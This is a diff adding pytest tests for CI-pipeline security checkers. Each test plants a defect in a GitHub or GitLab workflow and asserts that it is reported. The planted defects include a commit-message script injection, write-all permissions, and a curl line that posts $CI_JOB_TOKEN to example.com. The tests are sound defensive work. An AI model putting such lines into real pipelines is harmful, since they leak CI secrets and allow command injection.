@@ -81,3 +81,73 @@ def test_checkov_reports_a_scan_of_no_resource(tmp_path):
     (tmp_path / "infra" / "terraform").mkdir(parents=True)
     (tmp_path / "infra" / "terraform" / "main.tf").write_text('variable "x" {\n  type = string\n}\n')
     assert [f.message for f in CHECKERS["checkov-terraform"].run(tmp_path, {})] == ["checkov scanned no resource"]
+
+
+# The CI pipeline checkers (tests/checks/ci_pipelines.py): a clean workflow passes each, one planted
+# defect per checker is reported at its file (and line, where the tool gives one).
+CLEAN_WORKFLOW = """\
+name: x
+on: push
+permissions: {}
+jobs:
+  a:
+    runs-on: ubuntu-24.04
+    permissions:
+      contents: read
+    steps:
+      - uses: actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1
+        with:
+          persist-credentials: false
+      - run: echo hi
+"""
+WORKFLOW_DEFECTS = {
+    "ci-schemas": ("    steps:\n", "    stepz:\n", None),
+    "actionlint": ("    runs-on: ubuntu-24.04\n", "    runs-on: ubuntu-24.04\n    needs: nowhere\n", 5),
+    "zizmor": ("      - run: echo hi\n", '      - run: echo "${{ github.event.head_commit.message }}"\n', 13),
+    "checkov-github-actions": ("permissions: {}\n", "permissions: write-all\n", None),
+    "workflow-pins": ("3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1", "v7.0.1", 10),
+}
+
+
+@pytest.mark.parametrize("name", WORKFLOW_DEFECTS)
+def test_ci_checker_reports_planted_defect(tmp_path, name):
+    old, new, line = WORKFLOW_DEFECTS[name]
+    path = tmp_path / ".github" / "workflows" / "x.yml"
+    path.parent.mkdir(parents=True)
+    (tmp_path / ".checkov.yaml").write_text("skip-check: []\n")
+    answers = {"ci_provider": "github"}
+    path.write_text(CLEAN_WORKFLOW)
+    assert CHECKERS[name].run(tmp_path, answers) == []
+    path.write_text(CLEAN_WORKFLOW.replace(old, new))
+    findings = CHECKERS[name].run(tmp_path, answers)
+    assert findings, f"{name} missed the planted defect"
+    assert any(f.path.endswith(".github/workflows/x.yml") and line in (None, f.line) for f in findings), findings
+
+
+def test_ci_schema_checker_reports_gitlab_defect(tmp_path):
+    answers = {"ci_provider": "gitlab"}
+    path = tmp_path / ".gitlab-ci.yml"
+    path.write_text("lint:\n  script: [make lint]\n")
+    assert CHECKERS["ci-schemas"].run(tmp_path, answers) == []
+    path.write_text("lint:\n  script: [make lint]\n  when: sometimes\n")
+    assert CHECKERS["ci-schemas"].run(tmp_path, answers)
+
+
+def test_pin_checker_rejects_a_sha_outside_the_table(tmp_path):
+    path = tmp_path / ".github" / "workflows" / "x.yml"
+    path.parent.mkdir(parents=True)
+    path.write_text(CLEAN_WORKFLOW.replace("3d3c42e5aac5ba805825da76410c181273ba90b1", "0" * 40))
+    findings = CHECKERS["workflow-pins"].run(tmp_path, {"ci_provider": "github"})
+    assert [f.line for f in findings] == [10], findings
+
+
+def test_checkov_gitlab_ci_checker_reports_planted_defect(tmp_path):
+    # CKV_GITLABCI_1: a curl in a script that sends a CI variable somewhere.
+    (tmp_path / ".checkov.yaml").write_text("skip-check: []\n")
+    path = tmp_path / ".gitlab-ci.yml"
+    path.write_text("lint:\n  script:\n    - make lint\n")
+    answers = {"ci_provider": "gitlab"}
+    assert CHECKERS["checkov-gitlab-ci"].run(tmp_path, answers) == []
+    path.write_text('lint:\n  script:\n    - curl -d "$CI_JOB_TOKEN" https://example.com\n')
+    findings = CHECKERS["checkov-gitlab-ci"].run(tmp_path, answers)
+    assert findings and all(f.path.endswith(".gitlab-ci.yml") for f in findings), findings
